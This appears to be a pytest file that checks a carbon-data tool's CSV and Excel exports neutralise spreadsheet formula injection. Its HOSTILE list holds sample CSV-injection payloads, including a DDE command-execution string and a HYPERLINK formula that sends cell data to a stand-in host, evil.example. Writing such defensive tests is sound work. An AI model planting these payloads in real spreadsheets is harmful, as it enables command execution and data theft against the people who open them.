"""Exports neutralise spreadsheet formulas (OWASP, CSV injection) in CSV and Excel output.

Text cells starting with ``= + - @``, a tab or a carriage return are prefixed with ``'``;
numbers (negative ones too) stay numbers.  The service's CSV download, the CLI's
``--format csv`` and the files the CLI writes all go through :mod:`carbonpeak.io.export`.
"""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.platform.conftest import _template_db, login, platform  # noqa: F401 - fixtures
from tests.stores import db_location

from carbonpeak.cli import main
from carbonpeak.io.export import FORMULA_STARTS, neutralise_cell, safe_frame, to_csv, to_xlsx
from carbonpeak.store import Store
from carbonpeak.store.users import add_user

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@given(st.text())
def test_no_text_cell_can_start_a_formula(text):
    out = neutralise_cell(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out == text or out == "'" + text  # nothing else is changed


@given(st.one_of(st.integers(), st.floats(allow_nan=False)))
def test_numbers_are_kept_as_numbers(x):
    assert neutralise_cell(x) == x


def test_csv_neutralises_text_and_keeps_negative_numbers():
    df = pd.DataFrame({"detail": HOSTILE, "amount": [-1.5] * len(HOSTILE), "n": [-3] * len(HOSTILE)})
    rows = list(csv.DictReader(io.StringIO(to_csv(df), newline="")))
    assert [r["detail"] for r in rows] == ["'" + h for h in HOSTILE]
    assert {r["amount"] for r in rows} == {"-1.5"}
    assert {r["n"] for r in rows} == {"-3"}


def test_excel_cells_are_text_not_formulas_and_numbers_stay_numeric():
    df = pd.DataFrame({"detail": HOSTILE, "amount": [-1.5] * len(HOSTILE)})
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx(df))).active
    for row in ws.iter_rows(min_row=2):
        detail, amount = row
        assert detail.data_type == "s"  # a string, never 'f' (formula)
        assert str(detail.value).startswith("'")
        assert amount.data_type == "n"
        assert amount.value == -1.5


def test_header_names_are_neutralised_too():
    assert list(safe_frame(pd.DataFrame({"=x": [1]})).columns) == ["'=x"]


def test_service_credit_export_is_neutralised(platform):  # noqa: F811 - imported fixture
    client, _ = platform
    ha = login(client, "analyst")
    for d in HOSTILE:
        body = {"enterprise_id": "ENT-A", "kind": "confirmed_falsification", "detail": d}
        assert client.post("/api/credit", headers=ha, json=body).status_code == 201
    r = client.get("/api/credit/export.csv", headers=ha)
    assert r.status_code == 200
    details = {row["detail"] for row in csv.DictReader(io.StringIO(r.text, newline=""))}
    assert details == {"'" + h for h in HOSTILE}


@pytest.mark.parametrize("name", ["@import", "-payload", "=x"])
def test_cli_csv_output_is_neutralised(tmp_path, capsys, name):
    db = db_location(tmp_path / "c.duckdb")
    with Store(db) as s:
        s.con.execute("SELECT 1")  # migrate
        if name == "=x":  # not a valid user name: put the text in an audit entry instead
            from carbonpeak.store import audit

            with s.transaction():
                audit.append(s, actor="cli", action="note", entity="x", entity_id=name, payload={})
        else:
            add_user(s, name, "correct horse battery", "province_analyst")
    capsys.readouterr()
    assert main(["audit", "log", "--db", str(db), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {r["entity_id"] for r in rows} == {"'" + name}
    assert main(["audit", "log", "--db", str(db), "--format", "json"]) == 0
    assert {r["entity_id"] for r in json.loads(capsys.readouterr().out)} == {name}  # JSON is data, untouched
